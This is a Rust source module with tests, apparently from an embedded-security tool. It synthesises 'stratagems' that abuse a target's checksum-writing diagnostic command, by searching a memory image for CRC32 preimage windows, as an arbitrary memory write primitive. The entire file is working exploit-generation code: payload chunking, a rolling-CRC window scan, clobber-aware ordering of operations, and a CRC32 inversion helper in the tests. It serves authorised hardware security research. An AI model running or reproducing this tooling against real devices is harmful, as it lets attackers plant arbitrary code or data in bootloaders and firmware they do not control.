//! Checksum-inversion synthesis.
//!
//! Given a patch list and a readable (but not directly writable) source
//! image, find for every 4-byte chunk of the payload a source window whose
//! checksum equals that chunk. Chaining the target's checksum-write command
//! over those windows then deposits the payload, turning an innocuous
//! diagnostic command into an arbitrary memory write.
//!
//! The scan walks start offsets in ascending order and, at each offset,
//! grows one rolling checksum state a byte at a time through every window
//! length up to the configured maximum. The first offset with a matching
//! window wins, and within it the shortest length (shorter source ranges
//! replay faster over a slow console). The whole scan is O(N·L) thanks to
//! the engine's O(1) extension; recomputing each window from scratch would
//! make dump-scale inputs intractable.

use std::collections::HashMap;

use tracing::{debug, info, warn};

use crate::arch::Endian;
use crate::cancel::CancelToken;
use crate::checksum::Crc32;
use crate::error::{Error, Result};
use crate::image::Image;
use crate::patch::{MemoryPatch, PatchList};

use super::{ChecksumSpec, ExcludedTail, Operation, Stratagem};

/// Width of the value the target's checksum command writes.
pub const WRITE_WIDTH: usize = 4;

/// Offsets scanned between cancellation checks.
const CANCEL_STRIDE: usize = 4096;

/// What to do with a payload whose length is not a multiple of the write
/// width.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum TailPolicy {
    /// Drop the partial tail from the plan and record it as an
    /// [`ExcludedTail`] diagnostic. The plan then covers less than the full
    /// payload, visibly.
    #[default]
    WholeWordsOnly,
    /// Emit a final short write: the chunk is matched against the tail
    /// zero-padded to full width and the operation's `write_len` records
    /// how many result bytes actually land.
    AllowPartialWrite,
}

#[derive(Debug, Clone)]
pub struct SynthConfig {
    /// Longest source window to try at each start offset.
    pub max_source_len: usize,
    pub tail_policy: TailPolicy,
    pub checksum_spec: ChecksumSpec,
    /// Free-form provenance carried into the plan.
    pub comment: String,
}

impl Default for SynthConfig {
    fn default() -> Self {
        Self {
            max_source_len: 4096,
            tail_policy: TailPolicy::default(),
            checksum_spec: ChecksumSpec::default(),
            comment: String::new(),
        }
    }
}

/// One 4-byte unit of work: deposit `target` (as checksum output) at `dest`.
#[derive(Debug, Clone, Copy)]
struct Chunk {
    dest: u64,
    target: u32,
    write_len: usize,
}

enum Scan {
    Found { offset: usize, len: usize },
    NotFound,
    Cancelled,
}

pub struct Synthesizer<'a> {
    image: &'a Image,
    config: SynthConfig,
    cancel: CancelToken,
    offsets_scanned: u64,
}

impl<'a> Synthesizer<'a> {
    pub fn new(image: &'a Image, config: SynthConfig) -> Self {
        Self {
            image,
            config,
            cancel: CancelToken::new(),
            offsets_scanned: 0,
        }
    }

    /// Install a shared cancellation token (e.g. wired to Ctrl-C).
    pub fn with_cancel(mut self, cancel: CancelToken) -> Self {
        self.cancel = cancel;
        self
    }

    /// Start offsets examined so far, across all chunks. Mostly useful to
    /// confirm that invalid inputs are rejected before any scan work.
    pub fn offsets_scanned(&self) -> u64 {
        self.offsets_scanned
    }

    /// Validate raw patches and synthesize a plan for them.
    pub fn synthesize_patches(&mut self, patches: Vec<MemoryPatch>) -> Result<Stratagem> {
        let list = PatchList::new(patches)?;
        self.synthesize(&list)
    }

    /// Synthesize a plan depositing every patch in `patches`.
    ///
    /// All-or-nothing: the first chunk with no matching source window fails
    /// the whole call with its index, destination and target value. Two
    /// runs over the same image and patches produce identical plans.
    pub fn synthesize(&mut self, patches: &PatchList) -> Result<Stratagem> {
        let (chunks, excluded_tails) = self.split_chunks(patches);
        let total = chunks.len();
        debug!(
            "synthesizing {} chunks for {} patches over a {} byte image",
            total,
            patches.len(),
            self.image.len()
        );

        // Identical words resolve to identical windows, so search once per
        // distinct target value.
        let mut memo: HashMap<u32, (usize, usize)> = HashMap::new();
        let mut operations = Vec::with_capacity(total);

        for (index, chunk) in chunks.iter().enumerate() {
            if self.cancel.is_cancelled() {
                return Err(Error::Cancelled {
                    resolved: index,
                    total,
                });
            }

            let (offset, len) = match memo.get(&chunk.target) {
                Some(&found) => found,
                None => match self.scan_for(chunk.target) {
                    Scan::Found { offset, len } => {
                        memo.insert(chunk.target, (offset, len));
                        (offset, len)
                    }
                    Scan::NotFound => {
                        return Err(Error::ChunkUnresolvable {
                            chunk_index: index,
                            dest: chunk.dest,
                            target: chunk.target,
                        });
                    }
                    Scan::Cancelled => {
                        return Err(Error::Cancelled {
                            resolved: index,
                            total,
                        });
                    }
                },
            };

            debug!(
                "chunk {}: {:#010x} <= [{:#x}, +{}) -> {:#x}",
                index,
                chunk.target,
                self.image.address_of(offset),
                len,
                chunk.dest
            );
            operations.push(Operation {
                source_addr: self.image.address_of(offset),
                source_len: len,
                dest: chunk.dest,
                checksum: chunk.target,
                write_len: chunk.write_len,
            });
        }

        let operations = order_operations(operations)?;

        let stratagem = Stratagem {
            version: env!("CARGO_PKG_VERSION").to_string(),
            comment: self.config.comment.clone(),
            checksum_spec: self.config.checksum_spec,
            operations,
            excluded_tails,
        };
        info!(
            "stratagem created: {} operations, {} source bytes, {} payload bytes",
            stratagem.len(),
            stratagem.source_bytes(),
            stratagem.written_bytes()
        );
        Ok(stratagem)
    }

    /// Partition patches into write-width chunks, applying the tail policy.
    fn split_chunks(&self, patches: &PatchList) -> (Vec<Chunk>, Vec<ExcludedTail>) {
        let endian = self.config.checksum_spec.write_endian;
        let mut chunks = Vec::new();
        let mut excluded = Vec::new();

        for patch in patches.iter() {
            let mut offset = 0;
            while offset < patch.bytes.len() {
                let take = (patch.bytes.len() - offset).min(WRITE_WIDTH);
                let dest = patch.dest + offset as u64;

                if take < WRITE_WIDTH && self.config.tail_policy == TailPolicy::WholeWordsOnly {
                    warn!(
                        "excluding {} byte payload tail at {:#x} (whole-word writes only)",
                        take, dest
                    );
                    excluded.push(ExcludedTail {
                        dest,
                        bytes: patch.bytes[offset..].to_vec(),
                    });
                    break;
                }

                let mut word = [0u8; WRITE_WIDTH];
                word[..take].copy_from_slice(&patch.bytes[offset..offset + take]);
                let target = match endian {
                    Endian::Little => u32::from_le_bytes(word),
                    Endian::Big => u32::from_be_bytes(word),
                };
                chunks.push(Chunk {
                    dest,
                    target,
                    write_len: take,
                });
                offset += take;
            }
        }
        (chunks, excluded)
    }

    /// Find the first window whose checksum equals `target`: offsets
    /// ascending, lengths ascending within each offset.
    fn scan_for(&mut self, target: u32) -> Scan {
        let data = self.image.bytes();
        let len = data.len();
        let gapless = self.image.gaps().is_empty();
        let mut since_check = 0usize;

        let mut start = 0;
        while start < len {
            if !gapless {
                if let Some(gap_end) = self.image.gap_end(start) {
                    start = gap_end;
                    continue;
                }
            }

            since_check += 1;
            if since_check >= CANCEL_STRIDE {
                since_check = 0;
                if self.cancel.is_cancelled() {
                    return Scan::Cancelled;
                }
            }

            self.offsets_scanned += 1;
            let limit = self.config.max_source_len.min(len - start);
            let mut crc = Crc32::new();
            for window in 1..=limit {
                let pos = start + window - 1;
                // Windows never cross an exclusion gap.
                if !gapless && self.image.in_gap(pos) {
                    break;
                }
                crc.push(data[pos]);
                if crc.value() == target {
                    return Scan::Found {
                        offset: start,
                        len: window,
                    };
                }
            }
            start += 1;
        }
        Scan::NotFound
    }
}

/// Reorder operations so nothing writes over source bytes a later operation
/// still needs to read.
///
/// Kahn's algorithm with lowest-original-index selection: conflict-free
/// plans keep their construction order exactly, and the output is fully
/// deterministic. An unsatisfiable ordering (mutual clobber) is an error,
/// never a silently wrong plan.
fn order_operations(operations: Vec<Operation>) -> Result<Vec<Operation>> {
    let n = operations.len();

    let overlaps = |a_start: u64, a_len: usize, b_start: u64, b_len: usize| {
        a_start < b_start.saturating_add(b_len as u64)
            && b_start < a_start.saturating_add(a_len as u64)
    };

    // prereq edge j -> i: operation i writes over operation j's source, so
    // j must read (execute) first.
    let mut indegree = vec![0usize; n];
    let mut dependents: Vec<Vec<usize>> = vec![Vec::new(); n];
    for i in 0..n {
        for j in 0..n {
            if i == j {
                continue;
            }
            let writer = &operations[i];
            let reader = &operations[j];
            if overlaps(
                writer.dest,
                writer.write_len,
                reader.source_addr,
                reader.source_len,
            ) {
                indegree[i] += 1;
                dependents[j].push(i);
            }
        }
    }

    if indegree.iter().all(|&d| d == 0) {
        return Ok(operations);
    }
    debug!("destination/source overlap detected, reordering operations");

    let mut emitted = vec![false; n];
    let mut order = Vec::with_capacity(n);
    while order.len() < n {
        let next = (0..n).find(|&i| !emitted[i] && indegree[i] == 0);
        let Some(next) = next else {
            // Every remaining operation both clobbers and is clobbered;
            // report one concrete writer/reader pair.
            for i in (0..n).filter(|&i| !emitted[i]) {
                for j in (0..n).filter(|&j| !emitted[j] && j != i) {
                    let writer = &operations[i];
                    let reader = &operations[j];
                    if overlaps(
                        writer.dest,
                        writer.write_len,
                        reader.source_addr,
                        reader.source_len,
                    ) {
                        return Err(Error::DependencyConflict {
                            writer: writer.dest,
                            reader: reader.source_addr,
                        });
                    }
                }
            }
            // Unreachable in practice: a stuck queue implies a remaining
            // writer/reader pair. Fail closed regardless.
            let stuck = (0..n).find(|&i| !emitted[i]).unwrap_or(0);
            return Err(Error::DependencyConflict {
                writer: operations[stuck].dest,
                reader: operations[stuck].source_addr,
            });
        };
        emitted[next] = true;
        for &dep in &dependents[next] {
            indegree[dep] -= 1;
        }
        order.push(next);
    }

    Ok(order.into_iter().map(|i| operations[i].clone()).collect())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checksum::{FINAL_XOR, INIT_XOR, POLYNOMIAL, crc32};
    use crate::testutil::pseudo_random;

    /// Inverse of a CRC32 over a single 4-byte input: returns the word
    /// whose little-endian encoding checksums to `crc`. Test-only helper
    /// for planting preimages of chosen values.
    fn reverse_crc32_word(crc: u32) -> u32 {
        const INVPOLY: u32 = 0x5B35_8FD3;
        let mut tcrcreg = crc ^ FINAL_XOR;
        let mut data: u32 = 0;
        for _ in 0..32 {
            if data & 1 != 0 {
                data = (data >> 1) ^ POLYNOMIAL;
            } else {
                data >>= 1;
            }
            if tcrcreg & 1 != 0 {
                data ^= INVPOLY;
            }
            tcrcreg >>= 1;
        }
        data ^ INIT_XOR
    }

    #[test]
    fn test_reverse_crc32_word_is_a_preimage() {
        for value in [0xDEAD_BEEFu32, 0x0000_0001, 0x1234_5678] {
            let preimage = reverse_crc32_word(value);
            assert_eq!(crc32(&preimage.to_le_bytes()), value);
        }
    }

    const BASE: u64 = 0x87F0_0000;

    fn plant(bytes: &mut [u8], at: usize, target: u32) {
        bytes[at..at + 4].copy_from_slice(&reverse_crc32_word(target).to_le_bytes());
    }

    #[test]
    fn test_single_word_payload() {
        // 64 KiB of pseudo-random bytes with a planted preimage somewhere
        // in the middle; payload is one word, 0xDEADBEEF at 0x87800000.
        let mut bytes = pseudo_random(64 * 1024, 0xC0FF_EE00);
        plant(&mut bytes, 0x8000, 0xDEAD_BEEF);
        let image = Image::new(bytes, BASE).unwrap();

        let patch = MemoryPatch::new(0x8780_0000, 0xDEAD_BEEFu32.to_le_bytes().to_vec()).unwrap();
        let mut synth = Synthesizer::new(&image, SynthConfig::default());
        let stratagem = synth.synthesize_patches(vec![patch]).unwrap();

        assert_eq!(stratagem.len(), 1);
        let op = &stratagem.operations[0];
        assert_eq!(op.dest, 0x8780_0000);
        assert_eq!(op.checksum, 0xDEAD_BEEF);
        assert_eq!(op.write_len, 4);

        let offset = image.offset_of(op.source_addr).unwrap();
        let source = image.slice(offset, op.source_len).unwrap();
        assert_eq!(crc32(source), 0xDEAD_BEEF);
    }

    #[test]
    fn test_determinism() {
        let mut bytes = pseudo_random(16 * 1024, 0x0BAD_F00D);
        plant(&mut bytes, 0x400, 0xDEAD_BEEF);
        plant(&mut bytes, 0x800, 0x0102_0304);
        let image = Image::new(bytes, BASE).unwrap();

        let mut payload = 0xDEAD_BEEFu32.to_le_bytes().to_vec();
        payload.extend_from_slice(&0x0102_0304u32.to_le_bytes());
        let patch = MemoryPatch::new(0x8780_0000, payload).unwrap();
        let list = PatchList::new(vec![patch]).unwrap();

        let first = Synthesizer::new(&image, SynthConfig::default())
            .synthesize(&list)
            .unwrap();
        let second = Synthesizer::new(&image, SynthConfig::default())
            .synthesize(&list)
            .unwrap();
        assert_eq!(first, second);
    }

    #[test]
    fn test_lowest_offset_shortest_length_wins() {
        // In an all-zero image every offset produces the same windows, so
        // the scan must settle on offset 0 with the shortest length.
        let image = Image::new(vec![0u8; 64], BASE).unwrap();
        let target = crc32(&[0, 0]);
        let patch = MemoryPatch::new(0x9000_0000, target.to_le_bytes().to_vec()).unwrap();

        let mut synth = Synthesizer::new(&image, SynthConfig::default());
        let stratagem = synth.synthesize_patches(vec![patch]).unwrap();
        let op = &stratagem.operations[0];
        assert_eq!(op.source_addr, BASE);
        assert_eq!(op.source_len, 2);
    }

    #[test]
    fn test_unresolvable_chunk_reports_context() {
        let image = Image::new(vec![0u8; 64], BASE).unwrap();
        let patch = MemoryPatch::new(0x9000_0004, 0xDEAD_BEEFu32.to_le_bytes().to_vec()).unwrap();

        let mut synth = Synthesizer::new(&image, SynthConfig::default());
        let err = synth.synthesize_patches(vec![patch]).unwrap_err();
        assert!(matches!(
            err,
            Error::ChunkUnresolvable {
                chunk_index: 0,
                dest: 0x9000_0004,
                target: 0xDEAD_BEEF,
            }
        ));
    }

    #[test]
    fn test_overlapping_patches_rejected_before_any_scan() {
        let image = Image::new(vec![0u8; 1024], BASE).unwrap();
        let a = MemoryPatch::new(0x9000_0000, vec![0; 8]).unwrap();
        let b = MemoryPatch::new(0x9000_0007, vec![0; 4]).unwrap();

        let mut synth = Synthesizer::new(&image, SynthConfig::default());
        let err = synth.synthesize_patches(vec![a, b]).unwrap_err();
        assert!(matches!(err, Error::PatchOverlap { .. }));
        assert_eq!(synth.offsets_scanned(), 0);
    }

    #[test]
    fn test_whole_words_only_excludes_tail() {
        let mut bytes = vec![0u8; 1024];
        plant(&mut bytes, 0x100, 0x0403_0201);
        let image = Image::new(bytes, BASE).unwrap();

        let patch = MemoryPatch::new(0x9000_0000, vec![1, 2, 3, 4, 0xAA, 0xBB]).unwrap();
        let mut synth = Synthesizer::new(&image, SynthConfig::default());
        let stratagem = synth.synthesize_patches(vec![patch]).unwrap();

        assert_eq!(stratagem.len(), 1);
        assert_eq!(stratagem.operations[0].checksum, 0x0403_0201);
        assert_eq!(
            stratagem.excluded_tails,
            vec![ExcludedTail {
                dest: 0x9000_0004,
                bytes: vec![0xAA, 0xBB],
            }]
        );
    }

    #[test]
    fn test_partial_tail_write() {
        let mut bytes = vec![0u8; 1024];
        plant(&mut bytes, 0x100, 0x0403_0201);
        plant(&mut bytes, 0x200, 0x0000_BBAA);
        let image = Image::new(bytes, BASE).unwrap();

        let patch = MemoryPatch::new(0x9000_0000, vec![1, 2, 3, 4, 0xAA, 0xBB]).unwrap();
        let config = SynthConfig {
            tail_policy: TailPolicy::AllowPartialWrite,
            ..SynthConfig::default()
        };
        let mut synth = Synthesizer::new(&image, config);
        let stratagem = synth.synthesize_patches(vec![patch]).unwrap();

        assert_eq!(stratagem.len(), 2);
        assert!(stratagem.excluded_tails.is_empty());
        let tail = &stratagem.operations[1];
        assert_eq!(tail.checksum, 0x0000_BBAA);
        assert_eq!(tail.write_len, 2);
        assert_eq!(tail.dest, 0x9000_0004);
    }

    #[test]
    fn test_cancellation_reports_progress() {
        let image = Image::new(vec![0u8; 64], BASE).unwrap();
        let patch = MemoryPatch::new(0x9000_0000, crc32(&[0]).to_le_bytes().to_vec()).unwrap();

        let cancel = CancelToken::new();
        cancel.cancel();
        let mut synth = Synthesizer::new(&image, SynthConfig::default()).with_cancel(cancel);
        let err = synth.synthesize_patches(vec![patch]).unwrap_err();
        assert!(matches!(err, Error::Cancelled { resolved: 0, total: 1 }));
    }

    #[test]
    fn test_dependency_reordering_emits_reader_first() {
        // Both chunks source from the head of the image. The first patch
        // writes over that head, so its operation must run last.
        let image = Image::new(vec![0u8; 64], 0x1000).unwrap();
        let clobber = MemoryPatch::new(0x1000, crc32(&[0]).to_le_bytes().to_vec()).unwrap();
        let reader = MemoryPatch::new(0x2000, crc32(&[0, 0]).to_le_bytes().to_vec()).unwrap();

        let mut synth = Synthesizer::new(&image, SynthConfig::default());
        let stratagem = synth
            .synthesize_patches(vec![clobber, reader])
            .unwrap();

        assert_eq!(stratagem.len(), 2);
        assert_eq!(stratagem.operations[0].dest, 0x2000);
        assert_eq!(stratagem.operations[1].dest, 0x1000);
    }

    #[test]
    fn test_mutual_clobber_is_a_conflict() {
        // Each operation's destination overlaps the other's source range.
        let image = Image::new(vec![0u8; 64], 0x1000).unwrap();
        let a = MemoryPatch::new(0x1000, crc32(&[0; 6]).to_le_bytes().to_vec()).unwrap();
        let b = MemoryPatch::new(0x1004, crc32(&[0, 0]).to_le_bytes().to_vec()).unwrap();

        let mut synth = Synthesizer::new(&image, SynthConfig::default());
        let err = synth.synthesize_patches(vec![a, b]).unwrap_err();
        assert!(matches!(err, Error::DependencyConflict { .. }));
    }

    #[test]
    fn test_duplicate_words_share_one_scan() {
        let mut bytes = vec![0u8; 4096];
        plant(&mut bytes, 0x100, 0xDEAD_BEEF);
        let image = Image::new(bytes, BASE).unwrap();

        let mut payload = Vec::new();
        for _ in 0..4 {
            payload.extend_from_slice(&0xDEAD_BEEFu32.to_le_bytes());
        }
        let patch = MemoryPatch::new(0x9000_0000, payload).unwrap();

        let mut synth = Synthesizer::new(&image, SynthConfig::default());
        let stratagem = synth.synthesize_patches(vec![patch]).unwrap();
        assert_eq!(stratagem.len(), 4);
        let first = &stratagem.operations[0];
        for op in &stratagem.operations {
            assert_eq!(op.source_addr, first.source_addr);
            assert_eq!(op.source_len, first.source_len);
        }
        // One scan resolved all four identical words.
        assert!(synth.offsets_scanned() <= image.len() as u64);
    }

    #[test]
    fn test_gap_is_never_sourced() {
        // The planted preimage sits inside an exclusion gap; the scan must
        // not use it.
        let mut bytes = vec![0u8; 256];
        plant(&mut bytes, 0x80, 0xDEAD_BEEF);
        let image = Image::with_gaps(bytes, 0x1000, &[(0x1080, 4)]).unwrap();

        let patch = MemoryPatch::new(0x9000_0000, 0xDEAD_BEEFu32.to_le_bytes().to_vec()).unwrap();
        let mut synth = Synthesizer::new(&image, SynthConfig::default());
        let err = synth.synthesize_patches(vec![patch]).unwrap_err();
        assert!(matches!(err, Error::ChunkUnresolvable { .. }));
    }
}
